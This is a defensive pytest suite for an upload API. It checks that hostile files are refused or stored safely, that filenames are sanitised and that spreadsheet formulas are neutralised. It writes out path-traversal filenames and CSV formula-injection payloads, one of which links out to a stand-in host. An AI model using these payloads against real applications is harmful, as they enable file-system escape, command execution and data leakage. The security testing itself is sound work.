"""Hostile uploads through the real HTTP app: every file of tests/hostile_files/corpus.py sent to
each route it targets (/v1/documents, /v1/audit, /v1/listen) with a real editor key.

A refused file gets a 4xx whose message names the problem (never a path or a traceback), and the
workspace is byte-identical afterwards: its folder, every database table, its rows in the control
database and the contents of its Chroma collection and of the shared one. A harmless file that is
accepted is checked for what must not reach the index, stays inside the workspace's folder under
a clean name, and deleting it returns the workspace to exactly its state before.
"""

from __future__ import annotations

import io
import shutil
import tempfile
import zipfile
from pathlib import Path
from urllib.parse import quote

import pytest
from fastapi.testclient import TestClient

from bot.api.app import create_app
from bot.app_context import Upward
from bot.config import load_settings
from tests.conftest import fake_chat
from tests.hostile_files import corpus
from tests.hostile_files.state import differences, snapshot

ROUTES = {"documents": "/v1/documents", "audit": "/v1/audit", "listen": "/v1/listen"}
WORKSPACE = "hostile"


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("hostile-corpus")
    return {entry.file: path for entry, path in corpus.build(folder)}


@pytest.fixture(scope="module")
def env(knowledge_data_dir, tmp_path_factory):
    data = tmp_path_factory.mktemp("hostile") / "data"
    shutil.copytree(knowledge_data_dir, data)
    upward = Upward(load_settings(data_dir=data, rate_limit_per_minute=100_000, sample_audit=False), fake_chat("x"))
    upward.shared.registry.create(WORKSPACE)
    keys = upward.shared.keys
    editor = keys.create(workspace=WORKSPACE, role="editor", name="hostile editor")
    admin = keys.create(workspace=WORKSPACE, role="admin", name="hostile admin")
    sample = upward.settings.sample_dir
    with TestClient(create_app(upward=upward), base_url="http://localhost") as client:
        # Something of each kind that a hostile upload could damage: a document, an audit and
        # an import of comments (small, so that hashing the workspace stays quick).
        auth = _bearer(editor)
        made = [
            client.post("/v1/documents", headers=auth, data={"kind": "guidance"},
                        files={"files": ("existing.md", b"# Existing\nOur own guidance on replies.\n", "text/markdown")}),
            client.post("/v1/audit", headers=auth, files={"files": (
                "ga4_pages_monthly.csv", (sample / "exports" / "ga4_pages_monthly.csv").read_bytes(), "text/csv")}),
            client.post("/v1/listen", headers=auth, files={"files": ("comments.csv", "\n".join(
                (sample / "listening" / "brackenford_comments.csv").read_text(encoding="utf-8").splitlines()[:80]
            ).encode(), "text/csv")}),
        ]
        assert [m.status_code for m in made] == [201, 201, 201], [m.text[:300] for m in made]
        shared = snapshot(upward, WORKSPACE)  # once: the shared collection is large
        yield {"client": client, "upward": upward, "editor": auth, "admin": _bearer(admin), "data": data,
               "shared": {k: v for k, v in shared.items() if k == "collection:shared"}}


def _bearer(key) -> dict:
    return {"Authorization": f"Bearer {key.secret}"}


def upload(env, route: str, name: str, body: bytes):
    data = {"kind": "guidance"} if route == "documents" else None
    return env["client"].post(ROUTES[route], headers=env["editor"], data=data,
                              files={"files": (name, body, "application/octet-stream")})


UPLOAD_TEMP_PREFIXES = ("upward-upload-", "upward-listen-", "upward-docs-")


def _temp_uploads() -> set[str]:
    return {p.name for p in Path(tempfile.gettempdir()).iterdir() if p.name.startswith(UPLOAD_TEMP_PREFIXES)}


CASES = [
    pytest.param(route, entry, id=f"{route}-{entry.file}")
    for entry in corpus.CORPUS
    for route, expect in entry.routes.items()
    if not (route == "listen" and expect.outcome == corpus.ACCEPTED)  # an import replaces the active one
]


def test_the_corpus_is_large_and_covers_every_route():
    assert len(corpus.CORPUS) >= 30
    assert {r for e in corpus.CORPUS for r in e.routes} == set(ROUTES)
    assert len(CASES) >= 60


@pytest.mark.parametrize(("route", "entry"), CASES)
def test_a_hostile_upload_is_refused_cleanly_or_ingested_safely(env, built, route, entry):
    upward = env["upward"]
    before = snapshot(upward, WORKSPACE, shared=False)
    temp_before = _temp_uploads()
    body = built[entry.file].read_bytes()
    response = upload(env, route, entry.sent_name, body)
    expect = entry.routes[route]
    text = response.text
    assert response.status_code < 500, text
    assert "Traceback" not in text and str(env["data"]) not in text and tempfile.gettempdir() + "/" not in text
    assert _temp_uploads() <= temp_before, "the upload's temporary folder was left behind"

    assert (upward.service(WORKSPACE).workspace.files_dir / "existing.md").is_file()
    if expect.outcome == corpus.REFUSED:
        assert response.status_code in (413, 422), text
        assert any(s in text.lower() for s in expect.says), f"{entry.file}: {text[:400]}"
        assert differences(before, snapshot(upward, WORKSPACE, shared=False)) == []
        return

    assert response.status_code == 201, text
    results = response.json()["results"]
    assert [r["status"] for r in results] == ["added"], results
    stored_name = results[0]["source"]
    assert "/" not in stored_name and "\\" not in stored_name and ".." not in stored_name.replace("...", "")
    assert all(ord(c) >= 32 and c not in "\u202e\u202d\u200e\u200f" for c in stored_name), repr(stored_name)
    service = upward.service(WORKSPACE)
    files_dir = service.workspace.files_dir.resolve()
    assert (files_dir / stored_name).is_file()
    record = next(r for r in service.own_store.manifest.all() if Path(r.source).name == stored_name)
    texts = [c.text for c in service.own_store.get(record.chunk_ids)]
    assert texts and all(t.strip() for t in texts)
    for forbidden in entry.must_not_index:
        assert not any(forbidden in t for t in texts), f"{forbidden!r} reached the index"
    deleted = env["client"].delete(f"/v1/documents/{quote(stored_name, safe='')}", headers=env["admin"])
    assert deleted.status_code == 204, deleted.text
    after = snapshot(upward, WORKSPACE, shared=False)
    # The delete and the ingest are in the activity log, as they should be; nothing else moved.
    assert [k for k in differences(before, after) if k != "control:activity_log"] == []


def test_the_shared_knowledge_never_changed(env):
    """After every hostile upload above, the shared collection is exactly as it was."""
    now = snapshot(env["upward"], WORKSPACE)
    assert {k: v for k, v in now.items() if k == "collection:shared"} == env["shared"]


def test_no_upload_name_writes_outside_the_workspace(env, built):
    escapes = [Path("/tmp/upward-escape.md"), Path("/upward-escape-win.md"),
               env["data"].parent / "upward-escape.md", env["data"] / "upward-escape.md"]
    for name in ("../../../../../tmp/upward-escape.md", "..\\..\\upward-escape-win.md", "/etc/../../upward-escape.md"):
        response = upload(env, "documents", name, b"# Escape\nStays inside.\n")
        assert response.status_code == 201, response.text
        stored = response.json()["results"][0]["source"]
        assert env["client"].delete(f"/v1/documents/{quote(stored, safe='')}", headers=env["admin"]).status_code == 204
    assert not any(p.exists() for p in escapes)


def test_upload_names_lose_folders_control_characters_and_bidi_marks():
    from bot.api.uploads import safe_name

    class Named:
        def __init__(self, filename):
            self.filename = filename

    assert safe_name(Named("report\u202egpj.\x07md.md"), 0) == "reportgpj.md.md"
    assert safe_name(Named("..\\..\\win.md"), 0) == "win.md"
    assert safe_name(Named("../../etc/passwd"), 0) == "passwd"
    assert safe_name(Named("a\x00b\u200b.md"), 0) == "ab.md"
    assert safe_name(Named(".."), 3) == "upload-3" and safe_name(Named(None), 4) == "upload-4"
    assert len(safe_name(Named("x" * 500 + ".md"), 0)) == 200


def test_a_hostile_file_under_an_existing_documents_name_leaves_it_intact(env):
    upward = env["upward"]
    before = snapshot(upward, WORKSPACE, shared=False)
    stored = upward.service(WORKSPACE).workspace.files_dir / "existing.md"
    original = stored.read_bytes()
    refused = upload(env, "documents", "existing.md", "# Caf\u00e9\n".encode("latin-1"))
    assert refused.status_code == 422 and "utf-8" in refused.text.lower()
    assert stored.read_bytes() == original
    assert differences(before, snapshot(upward, WORKSPACE, shared=False)) == []


def test_many_hostile_files_in_one_upload_change_nothing(env, built):
    """Every refused document file in one request: 422 listing each, nothing kept."""
    upward = env["upward"]
    refused = [e for e in corpus.uploads("documents")
               if e.routes["documents"].outcome == corpus.REFUSED and built[e.file].stat().st_size < 2_000_000]
    batch = refused[:upward.settings.max_upload_files]
    before = snapshot(upward, WORKSPACE, shared=False)
    response = env["client"].post(
        "/v1/documents", headers=env["editor"], data={"kind": "guidance"},
        files=[("files", (e.sent_name, built[e.file].read_bytes(), "application/octet-stream")) for e in batch],
    )
    assert response.status_code == 422, response.text
    problems = response.json()["detail"]["problems"]
    assert problems and {p["file"] for p in problems} <= {Path(e.sent_name.replace("\\", "/")).name for e in batch}
    assert differences(before, snapshot(upward, WORKSPACE, shared=False)) == []


def test_formula_cells_in_comments_import_harmlessly(env, built):
    """Comments whose cells are spreadsheet formulas are imported as text (Upward writes no CSV
    of comments); the link inside =HYPERLINK is redacted like any link."""
    response = upload(env, "listen", "formula_comments.csv", built["formula_comments.csv"].read_bytes())
    assert response.status_code == 201, response.text
    report_id = response.json()["id"]
    service = env["upward"].service(WORKSPACE)
    texts = [c.text for c in service.own_store.all_chunks() if c.metadata.get("listening_id") == report_id]
    assert texts and not any("127.0.0.1:9" in t for t in texts)
    exported = env["client"].get("/v1/workspace/export", headers=env["admin"])
    with zipfile.ZipFile(io.BytesIO(exported.content)) as archive:
        tables = [n for n in archive.namelist() if n.startswith("tables/")]
        assert tables and all("127.0.0.1:9" not in archive.read(n).decode("utf-8", "replace") for n in tables)
    assert env["client"].delete(f"/v1/listen/{report_id}", headers=env["admin"]).status_code == 204


# --- formula cells in what Upward writes ------------------------------------------------------

def test_safe_cell_neutralises_formulas_and_keeps_numbers():
    from bot.security.cells import safe_cell

    for formula in corpus.FORMULAS + ("=1+1", "+44 20 7946 0000", "-x", "@user", "\uff1dSUM(A1)"):
        assert safe_cell(formula) == "'" + formula
    for plain in ("-12.5", "+3", "-0", "Facebook", "/bins", "", "2026-01-01", "a=b"):
        assert safe_cell(plain) == plain
    assert safe_cell(-3.0) == -3.0 and safe_cell(None) is None


def _formula_export(sample_dir: Path) -> bytes:
    """The sample GA4 pages export with page paths that are formulas."""
    lines = (sample_dir / "exports" / "ga4_pages_monthly.csv").read_text(encoding="utf-8").splitlines()
    swaps = {"/jobs,": '"=HYPERLINK(""http://127.0.0.1:9/?""&A1,""Jobs"")",', "/parking,": '"+cmd|\' /C calc\'!A0",',
             "/libraries,": '"@SUM(1+1)*cmd|\' /C calc\'!A0",'}
    out = []
    for line in lines:
        for path, formula in swaps.items():
            if line.startswith(path):
                line = formula + line[len(path):]
        out.append(line)
    return ("\n".join(out) + "\n").encode()


def _text_cells_are_safe(rows: list[list[str]]) -> list[str]:
    from bot.security.cells import FORMULA_STARTS

    bad = []
    for row in rows[1:]:
        for column, cell in enumerate(row):
            if column == 5:  # value: a number
                float(cell)
                continue
            if cell.startswith(FORMULA_STARTS):
                bad.append(cell)
    return bad


def test_the_audits_canonical_table_and_the_export_never_carry_a_live_formula(env):
    import csv

    upward = env["upward"]
    body = _formula_export(upward.settings.sample_dir)
    response = env["client"].post("/v1/audit", headers=env["editor"],
                                  files={"files": ("=cmd|' -C calc'!A0.csv", body, "text/csv")})
    assert response.status_code == 201, response.text[:500]
    audit_id = response.json()["id"]
    folder = upward.service(WORKSPACE).workspace.audits_dir / audit_id
    rows = list(csv.reader((folder / "canonical.csv").open(encoding="utf-8", newline="")))
    items = {r[7] for r in rows[1:]}
    assert {"'=HYPERLINK(\"http://127.0.0.1:9/?\"&A1,\"Jobs\")", "'+cmd|' /C calc'!A0"} <= items
    assert {r[9] for r in rows[1:]} == {"'=cmd|' -C calc'!A0.csv"}
    assert _text_cells_are_safe(rows) == []
    exported = env["client"].get("/v1/workspace/export", headers=env["admin"])
    with zipfile.ZipFile(io.BytesIO(exported.content)) as archive:
        sheets = [n for n in archive.namelist() if n.endswith("/canonical.csv")]
        assert sheets
        for name in sheets:
            assert _text_cells_are_safe(list(csv.reader(io.StringIO(archive.read(name).decode("utf-8"))))) == []
    assert env["client"].delete(f"/v1/audit/{audit_id}", headers=env["admin"]).status_code == 204
